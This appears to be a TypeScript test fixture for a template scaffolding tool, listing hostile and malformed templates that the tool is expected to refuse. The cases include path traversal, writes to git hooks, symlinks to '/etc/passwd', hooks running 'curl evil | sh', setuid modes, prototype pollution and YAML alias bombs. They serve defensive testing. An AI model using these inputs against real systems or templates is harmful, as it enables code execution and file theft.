import { symlinkSync } from "node:fs";
import { join } from "node:path";
import type { Answers } from "../../../src/scaffold/answers.ts";
import type { Language } from "../../../src/system/messages.ts";
import type { Library } from "./memory.ts";

/** One template that means harm, or is broken, and what it gets. */
export interface Hostile {
  readonly what: string;
  /** Code of the refusal. */
  readonly got: string;
  /** For a path that is refused, why. */
  readonly fault?: string;
  readonly exit: 1 | 2 | 6;
  readonly library: Library;
  readonly answers?: Answers;
  readonly langs?: readonly [Language, ...Language[]];
  /** Makes on the disk what cannot be in memory: `templates` is the folder that holds `main`. */
  readonly onDisk?: (templates: string) => void;
}

const main = (yaml: string, files: Readonly<Record<string, string | Uint8Array>> = { x: "x" }): Library => ({
  main: { yaml, files },
});
const quoted = (text: string) => JSON.stringify(text);
/** For the list: what hides or reorders text becomes its code point. */
const shown = (text: string) =>
  quoted(text).replace(/[\u200b-\u206f]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16)}`);
const mebibyte = 1_048_576;

/** One file from `x`, written to a path. */
const to = (path: string, yaml = "") => main(`${yaml}files: [{ to: ${quoted(path)}, from: x }]\n`);
const path = (what: string, target: string, fault: string): Hostile => {
  return { what: `a path ${what}: ${shown(target)}`, got: "template.path", fault, exit: 6, library: to(target) };
};
const rendered = (what: string, target: string, fault: string, answers: Answers, yaml = ""): Hostile => {
  return {
    what: `a path that becomes ${what}`,
    got: "template.path",
    fault,
    exit: 6,
    library: to(target, yaml),
    answers,
  };
};

const paths: readonly Hostile[] = [
  path("above the root", "../x", "parent"),
  path("above the root, further in", "docs/../../x", "parent"),
  path("that ends above", "docs/..", "parent"),
  path("from the root of the disk", "/etc/cron.d/x", "absolute"),
  path("in somebody's home", "~/.bashrc", "absolute"),
  path("on a drive", "C:/Windows/x", "absolute"),
  path("on a drive, in Windows' way", "C:\\Windows\\x", "backslash"),
  path("on another machine", "\\\\host\\share\\x", "backslash"),
  path("with a backslash", "a\\..\\..\\x", "backslash"),
  path("with NUL", "a\0.md", "control"),
  path("with a line break", "a\nb.md", "control"),
  path("with an escape sequence", "\u001b[2Jx", "control"),
  path("that reads backwards", "exe.\u202efdp", "control"),
  path("with half a character", "a\ud800.md", "control"),
  path("with an empty segment", "a//b", "segment"),
  path("with a dot for a segment", "./a", "segment"),
  path("that ends in a slash", "a/", "segment"),
  path("that ends in a dot", "a/b.", "trailing"),
  path("that ends in a blank", "a/b ", "trailing"),
  path("of a device", "CON", "reserved"),
  path("of a device, with an extension", "docs/aux.md", "reserved"),
  path("of a device, with a blank", "nul .txt", "reserved"),
  path("of a hidden stream", "README.md:evil", "reserved"),
  path("with a wildcard", "docs/*.md", "reserved"),
  path("of a hook", ".git/hooks/pre-commit", "git"),
  path("of a hook, in capitals", ".GIT/hooks/pre-commit", "git"),
  path("of a hook, by its short name", "git~1/hooks/pre-commit", "git"),
  path("of a hook, with a dot behind", ".git./hooks/pre-commit", "git"),
  path("of a hook, with what macOS overlooks", ".g\u200cit/hooks/pre-commit", "control"),
  path("of a hook, with what macOS overlooks as well", ".g\u206ait/hooks/pre-commit", "control"),
  path("of a hook of a submodule", "sub/.git/hooks/pre-commit", "git"),
  path("of commonry's record", ".commonry/lock.json", "commonry"),
  path("of commonry's record, in capitals", ".COMMONRY/lock.json", "commonry"),
  path("of a journal", ".commonry/.pending-1/journal.json", "commonry"),
  path("in place of commonry's folder", ".commonry", "commonry"),
  path("longer than a name may be", `${"社".repeat(86)}.md`, "long"),
  path("longer than a path may be", `${"a/".repeat(600)}x`, "long"),
];

const renderedPaths: readonly Hostile[] = [
  rendered("`../x` through an answer", "<%= name =%>/x", "parent", { name: ".." }),
  rendered("`../../x` through an answer", "docs/<%= name =%>", "parent", { name: "../../x" }),
  rendered("absolute through an answer", "<%= name =%>", "absolute", { name: "/etc/passwd" }),
  rendered("absolute through an empty answer", "<%= name =%>/x", "absolute", { name: "" }),
  rendered("a drive's through an answer", "<%= name =%>:/x", "absolute", { name: "C" }),
  rendered("a hook's through an answer", "<%= name =%>/hooks/pre-commit", "git", { name: ".git" }),
  rendered("the record's through an answer", "<%= name =%>/lock.json", "commonry", { name: ".commonry" }),
  rendered("a device's through an answer", "<%= name =%>.md", "reserved", { name: "nul" }),
  rendered("Liquid through an answer", "<%= name =%>", "reserved", { name: "<%= name =%>" }),
  rendered("`../x` through a value", "<%= dir =%>/x", "parent", {}, "values: { dir: \".<%= '.' =%>\" }\n"),
  rendered("`../x` through a filter", "<%= 'xx' | replace: 'x', '.' =%>/x", "parent", {}),
  {
    what: "a path that becomes `../x` through the item of a list",
    got: "template.path",
    fault: "parent",
    exit: 6,
    library: main("files: [{ to: '<%= i =%>', from: x, each: { in: list, as: i } }]\n"),
    answers: { list: ["fine", "../x"] },
  },
  {
    what: "a path that becomes `../x` through a part of an item",
    got: "template.path",
    fault: "parent",
    exit: 6,
    library: main(
      'values: { list: [{ id: "../x" }] }\nfiles: [{ to: "<%= i.id =%>", from: x, each: { in: list, as: i } }]\n',
    ),
  },
];

const two = (one: string, other: string) =>
  main(`files: [{ to: ${quoted(one)}, from: x }, { to: ${quoted(other)}, from: x }]\n`);
const clash = (what: string, library: Library, got = "template.twice", more: Partial<Hostile> = {}): Hostile => {
  return { what, got, exit: 6, library, ...more };
};

const clashes: readonly Hostile[] = [
  clash("one path twice", two("a.md", "a.md")),
  clash("two paths that differ in case", two("README.md", "Readme.md")),
  clash("two paths whose folders differ in case", two("Docs/a.md", "docs/A.md")),
  clash("two paths that differ in composition", two("caf\u00e9.md", "cafe\u0301.md")),
  clash("two paths that a disk without case takes for one", two("stra\u00dfe.md", "STRASSE.md")),
  clash(
    "two items with one path",
    main("files: [{ to: '<%= i =%>', from: x, each: { in: list, as: i } }]\n"),
    "template.twice",
    {
      answers: { list: ["a", "A"] },
    },
  ),
  clash(
    "a path that a translation takes",
    main("files: [{ to: r.md }, { to: r.zh-cn.md, from: x }]\n", { "r.en.md": "", "r.zh.md": "", x: "" }),
    "template.twice",
    {
      langs: ["en", "zh"],
    },
  ),
  clash("a path that a part takes in another case", {
    main: { yaml: "include: [part]\nfiles: [{ to: LICENSE, from: x }]\n", files: { x: "" } },
    part: { yaml: "files: [{ to: license, from: x }]\n", files: { x: "" } },
  }),
  clash("a file that is a folder as well", two("docs", "docs/a.md"), "template.file-and-folder"),
  clash("a file that is a folder in another case", two("DOCS/a/b.md", "docs/A"), "template.file-and-folder"),
];

const source = (
  what: string,
  from: string,
  got: string,
  exit: 2 | 6,
  fault?: string,
  more: Partial<Hostile> = {},
): Hostile => ({
  what: `a source ${what}`,
  got,
  exit,
  ...(fault ? { fault } : {}),
  library: main(`files: [{ to: a.md, from: ${quoted(from)} }]\n`),
  ...more,
});
const linked = (what: string, from: string, link: string, target: string, got: string, exit: 1 | 2): Hostile => ({
  what,
  got,
  exit,
  library: main(`files: [{ to: a.md, from: ${from} }]\n`),
  onDisk: (templates) => symlinkSync(target, join(templates, "main", link)),
});

const sources: readonly Hostile[] = [
  source("above the template", "../../secret", "template.path", 6, "parent"),
  source("from the root of the disk", "/etc/passwd", "template.path", 6, "absolute"),
  source("with a backslash", "..\\secret", "template.path", 6, "backslash"),
  source("of the template's repository", ".git/config", "template.path", 6, "git"),
  source("that is not there", "nowhere.md", "template.no-source", 2),
  source("that is the template's own description", "template.yaml", "template.no-source", 2),
  source("above the template, through an answer", "<%= name =%>", "template.path", 6, "parent", {
    answers: { name: "../../secret" },
  }),
  linked("a source that is a link to a file outside", "leak", "files/leak", "/etc/passwd", "file.link", 1),
  linked("a source that is a link to a file of the template", "leak", "files/leak", "x", "file.link", 1),
  linked("a source that is a link to nothing", "leak", "files/leak", "/nowhere", "file.link", 1),
  linked("a source behind a folder that is a link", "up/etc/passwd", "files/up", "/", "template.no-source", 2),
  linked("a source that is a link to a folder", "dir", "files/dir", "..", "file.link", 1),
];

const sized = (what: string, got: string, library: Library, more: Partial<Hostile> = {}): Hostile => ({
  what,
  got,
  exit: 6,
  library,
  ...more,
});
const items = (count: number) => `[${Array.from({ length: count }, (_, index) => index).join(",")}]`;
const eachOf = (count: number, file = "to: 'd/<%= i =%>', from: x") =>
  `values: { list: ${items(count)} }\nfiles: [{ ${file}, each: { in: list, as: i } }]\n`;

const sizes: readonly Hostile[] = [
  sized(
    "a source above 1 MiB",
    "template.file-large",
    main("files: [{ to: a.bin, from: x }]\n", { x: new Uint8Array(mebibyte + 1) }),
  ),
  sized(
    "a render above 1 MiB",
    "template.file-large",
    main("files: [{ to: a.txt }]\n", { "a.txt.liquid": "<%% for i in (1..1100) %%><%= line =%><%% endfor %%>" }),
    {
      answers: { line: "x".repeat(1000) },
    },
  ),
  sized(
    "a render of half a gigabyte",
    "template.file-large",
    main("files: [{ to: a.txt }]\n", {
      "a.txt.liquid": `<%% for i in (1..1000) %%>${"x".repeat(400_000)}<%% endfor %%>`,
    }),
  ),
  sized("more than 16 MiB in all", "template.large", main(eachOf(17), { x: new Uint8Array(mebibyte) })),
  sized("more than 5,000 files", "template.files", main(eachOf(5001))),
  sized(
    "more than 5,000 files in two languages",
    "template.files",
    main(eachOf(2501, "to: 'd/<%= i =%>.md', from: x, lang: each"), { x: "" }),
    {
      langs: ["en", "zh"],
    },
  ),
  sized("more than 5,000 files by two entries", "template.files", {
    main: { yaml: `include: [part]\n${eachOf(3000)}`, files: { x: "" } },
    part: { yaml: eachOf(3000, "to: 'e/<%= i =%>', from: x"), files: { x: "" } },
  }),
  sized("100,000 files", "template.files", main(eachOf(100_000))),
  sized("100,000 files with one path", "template.files", main(eachOf(100_000, "to: a, from: x"))),
];

const described = (what: string, yaml: string, got = "template.invalid", more: Partial<Hostile> = {}): Hostile => ({
  what: `a description ${what}`,
  got,
  exit: 2,
  library: main(yaml),
  ...more,
});
const whole = (text: string | Uint8Array): Partial<Hostile> => ({ library: { main: { yaml: "", whole: text } } });

const descriptions: readonly Hostile[] = [
  described("with hooks", "files: []\nhooks: { post: 'curl evil | sh' }\n"),
  described("with tasks", "files: []\n_tasks: ['curl evil | sh']\n"),
  described("with a command at a file", "files: [{ to: a, from: x, run: 'curl evil | sh' }]\n"),
  described("with a mode at a file", "files: [{ to: a, from: x, mode: '4755' }]\n"),
  described(
    "with an unknown key at a question",
    "questions: [{ id: a, type: text, ask: a, secret: true }]\nfiles: []\n",
  ),
  described("with an unknown type of question", "questions: [{ id: a, type: password, ask: a }]\nfiles: []\n"),
  described("with a question named __proto__", "questions: [{ id: __proto__, type: text, ask: a }]\nfiles: []\n"),
  described("with a value named __proto__", "values: { __proto__: { x: 1 } }\nfiles: []\n"),
  described(
    "with an id that is a path",
    "",
    "template.invalid",
    whole("template: 1\nid: ../x\nversion: 1.0.0\ntitle: x\ndescription: x\nfiles: []\n"),
  ),
  described("that includes a path", "include: [../../x]\nfiles: []\n"),
  described(
    "of a later format",
    "",
    "template.invalid",
    whole("template: 2\nid: main\nversion: 1.0.0\ntitle: x\ndescription: x\nfiles: []\n"),
  ),
  described("without files", "values: {}\n"),
  described("with a key twice", "files: []\nfiles: []\n"),
  described("with a tag", "files: []\nvalues: { a: !!js/function 'x' }\n"),
  described("in two documents", "files: []\n---\nfiles: []\n"),
  described("that nests without end", `values: { a: ${"[".repeat(5000)} }\nfiles: []\n`),
  described(
    "that multiplies by aliases",
    `values:\n  a0: &a0 [x, x]\n${Array.from({ length: 30 }, (_, k) => `  a${k + 1}: &a${k + 1} [*a${k}, *a${k}]\n`).join("")}files: []\n`,
  ),
  described("above 1 MiB", `files: []\n#${"x".repeat(mebibyte)}\n`),
  described("that is no map", "", "template.invalid", whole("- a\n- b\n")),
  described("that is empty", "", "template.invalid", whole("")),
  described("that is no UTF-8", "", "file.encoding", whole(new Uint8Array([0x66, 0xff, 0xfe]))),
  {
    ...linked("a description that is a link", "x", "template.yaml", "/etc/passwd", "file.link", 1),
    library: { main: { yaml: "", whole: null } },
  },
];

const including = (what: string, includes: Readonly<Record<string, string>>, got: string, exit: 1 | 2): Hostile => ({
  what,
  got,
  exit,
  library: Object.fromEntries(
    Object.entries(includes).map(([id, list]) => [id, { yaml: `include: [${list}]\nfiles: []\n` }]),
  ),
});

const inclusions: readonly Hostile[] = [
  including("a template that includes itself", { main: "main" }, "template.cycle", 1),
  including("two that include one another", { main: "part", part: "main" }, "template.cycle", 1),
  including("a ring of four", { main: "a", a: "b", b: "c", c: "a" }, "template.cycle", 1),
  including("one that includes what is not there", { main: "nowhere" }, "template.unknown", 2),
  including("one that includes `constructor`", { main: "constructor" }, "template.unknown", 2),
];

const rendering = (what: string, text: string | Uint8Array, got = "template.render", exit: 1 | 2 = 1): Hostile => ({
  what: `a file that ${what}`,
  got,
  exit,
  library: main("files: [{ to: a.md }]\n", { "a.md.liquid": text }),
});
const range = "<%% for i in (1..1000000000) %%>x<%% endfor %%>";
const bomb = "<%% for i in (1..10000) %%><%% for j in (1..10000) %%>x<%% endfor %%><%% endfor %%>";

const renders: readonly Hostile[] = [
  rendering("loops 10^8 times", bomb),
  rendering("wants a range of 10^9", range),
  rendering("includes a file of this disk", "<%% include '/etc/passwd' %%>"),
  rendering("renders a file of this disk", "<%% render '../../../../etc/passwd' %%>"),
  rendering("reaches for a constructor", "<%= template.constructor.constructor =%>"),
  rendering("reaches for a prototype", "<%= __proto__ =%>"),
  rendering("switches the escaping off", "<%= template | raw =%>"),
  rendering("names what is not there", "<%= process.env.HOME =%>"),
  rendering("does not end a tag", "<%% if true %%>"),
  rendering("is Liquid in no UTF-8", new Uint8Array([0x3c, 0x25, 0xff]), "file.encoding", 2),
  { what: "a path that wants a range of 10^9", got: "template.render", exit: 1, library: to(range) },
  {
    what: "a value that wants a range of 10^9",
    got: "template.render",
    exit: 1,
    library: to("a", `values: { a: ${quoted(range)} }\n`),
  },
  {
    what: "a condition that names what is not there",
    got: "template.render",
    exit: 1,
    library: main("files: [{ to: a, from: x, when: process.env }]\n"),
  },
];

/** Every hostile template tried, by kind. */
export const hostileTemplates: Readonly<Record<string, readonly Hostile[]>> = {
  paths: paths,
  "paths made by rendering": renderedPaths,
  clashes: clashes,
  sources: sources,
  sizes: sizes,
  descriptions: descriptions,
  inclusions: inclusions,
  renders: renders,
};
